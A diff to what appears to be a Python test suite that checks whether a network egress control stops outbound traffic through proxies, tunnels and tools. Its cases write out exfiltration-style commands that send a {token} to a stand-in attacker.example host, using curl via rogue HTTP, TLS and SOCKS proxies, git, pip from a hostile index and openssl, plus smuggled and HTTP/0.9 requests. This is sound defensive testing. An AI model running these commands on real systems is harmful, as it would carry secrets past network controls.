@@ -146,7 +146,7 @@ def _connect() -> list[Case]:
         ("the proxy of another class", "{gw_open}:3128", "attacker.example:443"),
         ("the proxy of another node", "{peer}:3128", "attacker.example:443"),
     ):  # fmt: skip
-        quiet = "without the control a proxy listens only on the gateways' addresses" if name.split()[-1] in ("loopback", "address", "node") and first != "{gw}:3128" else ""
+        quiet = "without the control a proxy listens only on the gateways' addresses" if name.split()[-1] in ("loopback", "address") and first != "{gw}:3128" else ""
         found.append(case(double, name, "stream", dial=PROXY, connect=first, send=inner.replace("{target}", target), second="{token}\n", unshown=quiet))
     found += [
         case(double, "two on one connection", "smuggle", dial=PROXY,
@@ -168,8 +168,7 @@ def _connect() -> list[Case]:
 def _plain() -> list[Case]:
     found = []
     for name, url in URLS.items():
-        quiet = "a URL with an empty host leads nowhere" if name == "three slashes" else ""
-        found.append(case("absolute-form requests", f"{name}, by the proxy", "stream", dial=PROXY, send=_get(url, "cdn.example"), unshown=quiet))
+        found.append(case("absolute-form requests", f"{name}, by the proxy", "stream", dial=PROXY, send=_get(url, "cdn.example")))
     for name in ("a stranger", "the attacker", "a denied name", "a port", "an internal server"):
         found.append(case("absolute-form requests", f"{name}, at a listed name's address", "stream", dial=INTERCEPT, send=_get(URLS[name], "cdn.example")))
     found += [
@@ -184,8 +183,7 @@ def _plain() -> list[Case]:
         for method in METHODS
     ]  # fmt: skip
     found += [
-        case("methods", "HTTP/0.9", "stream", dial=PROXY, send="GET http://attacker.example/{token}\r\n\r\n",
-             unshown="the fake internet's servers answer no request without a version"),
+        case("methods", "HTTP/0.9", "stream", dial=PROXY, send="GET http://attacker.example/{token}\r\n\r\n"),
         case("methods", "HTTP/1.0", "stream", dial=PROXY, send="GET http://attacker.example/{token} HTTP/1.0\r\n\r\n"),
         case("methods", "the proxy's own pages", "stream", dial=PROXY, send=_get("http://{gw}:3128/squid-internal-mgr/info", "{gw}:3128"), sign="text:Squid Object Cache",
              unshown="only the control's own proxy has such pages"),
@@ -259,9 +257,10 @@ def _programs() -> list[Case]:
         case(family, "curl with NO_PROXY", "tool", argv=[*curl, *at, url], environment=proxied | {"no_proxy": "*"}),
         case(family, "curl with the proxy", "tool", argv=[*curl, url], environment=proxied),
         case(family, "curl with the proxy and a Proxy-Authorization", "tool", argv=[*curl, "-U", "root:{token}", url], environment=proxied),
-        case(family, "curl with another proxy", "tool", argv=[*curl, "-x", "http://{attacker}:3128", url]),
-        case(family, "curl with a TLS proxy", "tool", argv=[*curl, "--proxy-insecure", "-x", "https://{attacker}:443", "-p", url]),
-        case(family, "curl with SOCKS 5", "tool", argv=[*curl, "-x", "socks5h://{attacker}:1080", "http://{token}.attacker.example/"]),
+        case(family, "curl with another proxy", "tool", argv=[*curl, "-x", "http://{attacker}:3128", "https://{token}.attacker.example/"]),
+        case(family, "curl with a TLS proxy", "tool", argv=[*curl, "--proxy-insecure", "-x", "https://{attacker}:443", "-p", "https://{token}.attacker.example/"]),
+        case(family, "curl with SOCKS 5", "tool", argv=[*curl, "-x", "socks5h://{attacker}:1080", "http://{token}.attacker.example/"],
+             unshown="the fake internet does not speak SOCKS 5, so the name is not sent; the next case shows it with SOCKS 4"),
         case(family, "curl with SOCKS 4", "tool", argv=[*curl, "-x", "socks4a://{attacker}:1080", "http://{token}.attacker.example/"]),
         case(family, "curl with another connection", "tool", argv=[*curl, "--connect-to", "cdn.example:443:{attacker}:443", "https://cdn.example/{token}"]),
         case(family, "curl with a PROXY line", "tool", argv=[*curl, "--haproxy-protocol", *at, url + "?{token}"],
@@ -276,7 +275,7 @@ def _programs() -> list[Case]:
         case(family, "git over HTTPS", "tool", argv=["git", "-c", "http.sslVerify=false", "ls-remote", "https://attacker.example/{token}.git"]),
         case(family, "git over its own protocol", "tool", argv=["git", "ls-remote", "git://{attacker}/{token}.git"]),
         case(family, "pip from another index", "tool",
-             argv=["sh", "-c", "python3 /usr/share/python-wheels/pip-*.whl/pip download --no-deps --retries 0 --timeout 3 --trusted-host attacker.example "
+             argv=["sh", "-c", "python3 $(echo /usr/share/python-wheels/pip-*.whl)/pip download --no-deps --retries 0 --timeout 3 --trusted-host attacker.example "
                    "-d /tmp/x -i https://attacker.example/{token}/simple/ probe"]),
         case(family, "openssl", "tool", argv=["sh", "-c", "printf 'GET /{token} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | timeout 4 openssl s_client -quiet -connect {attacker}:443 -servername attacker.example"]),
         case(family, "openssl by the proxy", "tool", argv=["sh", "-c", "printf 'GET /{token} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | timeout 4 openssl s_client -quiet -proxy {gw}:3128 -connect cdn.example:443 -servername tenant.attacker.example"]),
